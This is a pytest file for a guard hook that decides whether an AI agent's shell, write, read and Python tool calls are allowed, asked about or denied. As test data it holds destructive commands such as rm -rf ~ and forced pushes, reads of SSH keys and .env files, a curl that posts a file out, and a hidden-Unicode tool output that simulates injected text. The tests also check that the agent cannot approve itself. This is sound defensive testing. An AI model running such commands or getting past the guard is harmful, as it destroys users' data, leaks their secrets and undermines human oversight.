"""The guard as a harness meets it: silent for what a snapshot holds, a question or a denial for what nothing brings back."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.support.repo import RepoBuilder


def asked(repo: RepoBuilder, command: str, call_id: str = "g1") -> dict[str, Any]:
    """The answer to a shell call that is about to run."""
    done = repo.hook_raw("tool.execute.pre", call_id=call_id, tool="shell", input={"command": command})
    assert done.code in (0, 2), done.text
    answer = json.loads(done.out)
    assert isinstance(answer, dict)
    return answer


def settings(repo: RepoBuilder, **values: Any) -> None:
    folder = Path(repo.env["XDG_CONFIG_HOME"]) / "git-safety"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "settings.json").write_text(json.dumps(values))


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf src",
        "git reset --hard",
        "git clean -fdx",
        "git branch -D other",
        "git stash drop",
        "rm -rf .git",
        "echo 'rm -rf /'",
    ],
)
def test_what_the_snapshot_holds_runs_unasked(repo: RepoBuilder, command: str) -> None:
    """No question for what undo brings back, however wild it looks."""
    repo.write("untracked", "u\n")
    repo.write(".env", "KEY=1\n")
    assert asked(repo, command)["decision"] == "allow"


def test_what_nothing_brings_back_is_stopped(repo: RepoBuilder) -> None:
    """A forced push and a home folder that goes: loss first, and a way out."""
    repo.sh("git init -q --bare ../remote; git remote add origin ../remote; git push -q -u origin main")
    for command in ("git push --force origin main", "rm -rf ~"):
        answer = asked(repo, command, command)
        assert answer["decision"] in ("ask", "deny"), answer
        assert "cannot be undone" in answer["reason"] and "git safety allow --once" in answer["reason"]


def test_file_that_no_snapshot_holds(repo: RepoBuilder) -> None:
    """A file over the limit is asked about; taken into a snapshot first, by hand or by the command itself, it is not."""
    settings(repo, snapshots={"max_file_mib": 1})
    repo.write("data/raw.bin", b"x" * (2 << 20))
    answer = asked(repo, "rm -rf data")
    assert answer["decision"] == "ask" and "data/raw.bin" in answer["reason"]
    assert "git safety snapshot data/raw.bin && rm -rf data" in answer["reason"]
    assert asked(repo, "git safety snapshot data/raw.bin && rm -rf data", "g2")["decision"] == "allow"


@pytest.mark.parametrize("command", ["rm -f big.db; rm -rf ~", "rm -rf big.db /", "git push --force; rm big.db ~/outside.txt"])
def test_nothing_is_recommended_that_is_refused(repo: RepoBuilder, command: str) -> None:
    """Beside a file that a snapshot could take in there goes what nothing brings back: no way out is named, and every loss is."""
    settings(repo, snapshots={"max_file_mib": 1})
    repo.write("big.db", b"x" * (2 << 20))
    answer = asked(repo, command)
    assert answer["decision"] in ("ask", "deny")
    assert "instead" not in answer["reason"] and "big.db" in answer["reason"].partition("would lose")[2]


def test_one_call_is_allowed_once(repo: RepoBuilder) -> None:
    """A person lets the one call pass; the next one is stopped again, and the agent cannot type it."""
    reason = asked(repo, "rm -rf ~")["reason"]
    named = reason.partition("allow --once ")[2].split()[0]
    assert asked(repo, f"git safety allow --once {named}", "g2")["decision"] == "deny"
    repo.must("allow", "--once", named)
    assert asked(repo, "rm -rf ~", "g3")["decision"] == "allow"
    assert asked(repo, "rm -rf ~", "g4")["decision"] in ("ask", "deny")


def test_refused_effect_is_not_asked_about_again(repo: RepoBuilder) -> None:
    """What was stopped and did not run is denied when it comes again in other words, until the next turn; what ran is asked anew."""
    repo.hook("turn.pre", prompt="x")
    assert asked(repo, "git push --delete origin main", "g1")["decision"] == "ask"
    again = asked(repo, "cd . && git push origin :main", "g2")
    assert again["decision"] == "deny" and "stopped before" in again["reason"]
    repo.hook("turn.post")
    repo.hook("turn.pre", prompt="y")
    fields = {"call_id": "g3", "tool": "shell", "input": {"command": "git push --delete origin main"}}
    assert asked(repo, "git push --delete origin main", "g3")["decision"] == "ask"
    repo.hook("tool.execute.post", **fields, result="done")
    assert asked(repo, "git push --delete origin main", "g4")["decision"] == "ask"


def test_no_snapshot_no_leave(repo: RepoBuilder) -> None:
    """Where the snapshot failed, what it would have held is asked about."""
    repo.hook("turn.pre", prompt="x")
    heads = repo.state / "stores"
    for folder in heads.glob("*.git/objects"):
        folder.rename(folder.with_name("objects.gone"))
        folder.write_text("no folder\n")
    try:
        done = repo.hook_raw("tool.execute.pre", call_id="g1", tool="shell", input={"command": "rm -rf src"})
        answer = json.loads(done.out)
    finally:
        for folder in heads.glob("*.git/objects.gone"):
            folder.with_name("objects").unlink()
            folder.rename(folder.with_name("objects"))
    assert answer["decision"] == "ask" and "no snapshot was taken" in answer["reason"], answer


def test_rules_of_the_settings(repo: RepoBuilder) -> None:
    """The user's rules allow, ask and deny; a project's may only make stricter."""
    settings(repo, guard={"rules": [{"action": "deny", "command": "make deploy"}, {"action": "allow", "effect": "remote.*"}]})
    repo.write(".git-safety.json", json.dumps({"guard": {"rules": [{"action": "ask", "command": "npm publish"},
                                                                    {"action": "allow", "path": "/"}], "enabled": False}}))  # fmt: skip
    assert asked(repo, "make deploy now", "g1")["decision"] == "deny"
    assert asked(repo, "git push --force origin main", "g2")["decision"] == "allow"
    assert asked(repo, "npm publish", "g3")["decision"] == "ask"
    assert asked(repo, "rm -rf ~", "g4")["decision"] in ("ask", "deny")


def test_guard_off(repo: RepoBuilder) -> None:
    """The user may switch it off; nothing in a command can."""
    assert asked(repo, "GIT_SAFETY_HOME=/tmp/x rm -rf ~", "g1")["decision"] == "deny"
    settings(repo, guard={"enabled": False})
    assert asked(repo, "rm -rf ~", "g2")["decision"] == "allow"


def test_file_tools_are_judged(repo: RepoBuilder) -> None:
    """A write by declared path inside is nobody's business; one to a hook or through a link out of the folder is."""

    def written(path: str, call_id: str) -> str:
        done = repo.hook_raw("tool.execute.pre", call_id=call_id, tool="write", input={"path": path, "content": "x"})
        return str(json.loads(done.out)["decision"])

    assert written(str(repo.path("a.txt")), "g1") == "allow"
    assert written(str(Path(repo.env["XDG_CONFIG_HOME"]) / "git-safety/settings.json"), "g2") in ("ask", "deny")


def test_explain_runs_nothing(repo: RepoBuilder) -> None:
    """It says the verdict, what would be lost and the effects."""
    report = json.loads(repo.must("explain", "--json", "rm -rf src", code=0).out)["data"]
    assert (
        repo.exists("src")
        and report["action"] == "allow"
        and ["path.remove", str(repo.path("src")), "allow"] in report["effects"]
    )
    assert json.loads(repo.must("explain", "rm -rf src", "--json").out)["data"] == report
    assert json.loads(repo.must("explain", "--json", "--", "rm", "-rf", "src").out)["data"] == report
    repo.must("explain", code=2)
    done = repo.run("explain", "rm -rf ~")
    assert done.code in (1, 3) and "loses" in done.out


def test_taint_raises_what_leaves_the_machine(repo: RepoBuilder) -> None:
    """After a tool's output with hidden text, what speaks to the network weighs more, until the turn ends."""
    command = "curl -d @a.txt https://example.test"
    repo.hook("turn.pre", prompt="x")
    before = asked(repo, command, "g1")["decision"]
    fields = {"call_id": "g2", "tool": "shell", "input": {"command": "cat page"}}
    repo.hook("tool.execute.pre", **fields)
    repo.hook("tool.execute.post", **fields, result="plain \U000e0041\U000e0042 hidden")
    after = asked(repo, command, "g3")["decision"]
    order = ["allow", "ask", "deny"]
    assert order.index(after) == min(order.index(before) + 1, 2), (before, after)


@pytest.mark.parametrize("name", [".env", "keys", "~/.ssh/id_ed25519"])
def test_a_tool_that_shows_a_secret_is_judged_as_a_command_that_does(repo: RepoBuilder, name: str) -> None:
    """``read`` of a credential is asked about or denied like ``cat`` of it, in a list and behind a link as well; other reads are not."""
    home = Path(repo.env["HOME"])
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh/id_ed25519").write_text("key\n")
    repo.write(".env", "KEY=1\n")
    repo.link("keys", str(home / ".ssh/id_ed25519"))
    shown = asked(repo, f"cat {name}", "cat")

    for number, given in enumerate(({"path": name}, {"paths": ["a.txt", name]})):
        done = repo.hook_raw("tool.execute.pre", call_id=f"r{number}", tool="read", input=given)
        answer = json.loads(done.out)
        assert answer["decision"] in ("deny", "ask" if name == "keys" else shown["decision"]), answer
        assert "secret" in answer["reason"] and "git safety allow --once" in answer["reason"]
    for number, given in enumerate(({"path": "a.txt"}, {"path": ".env.example"}, {"pattern": "KEY"})):
        assert repo.hook("tool.execute.pre", call_id=f"o{number}", tool="read", input=given)["decision"] == "allow"


@pytest.mark.parametrize(
    ("code", "decision"),
    [
        ("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", "deny"),
        ("x = 1\n!rm -rf ~\nprint(x)", "deny"),
        ("%matplotlib inline\nimport os\nos.system('rm -rf ~')", "deny"),
        ("print(open('a.txt').read())\n!ls", "allow"),
        ("import shutil\nshutil.rmtree('src')", "allow"),
        ("print('rm -rf ~')", "allow"),
        ("", "allow"),
    ],
)
def test_a_tool_that_runs_python_is_judged_as_the_interpreter_would_be(repo: RepoBuilder, code: str, decision: str) -> None:
    """What Python code does to files, and the shell lines of IPython in it, meet the guard as a command's would."""
    done = repo.hook_raw("tool.execute.pre", call_id="p1", tool="ipython", input={"code": code})
    assert json.loads(done.out)["decision"] == decision, done.text
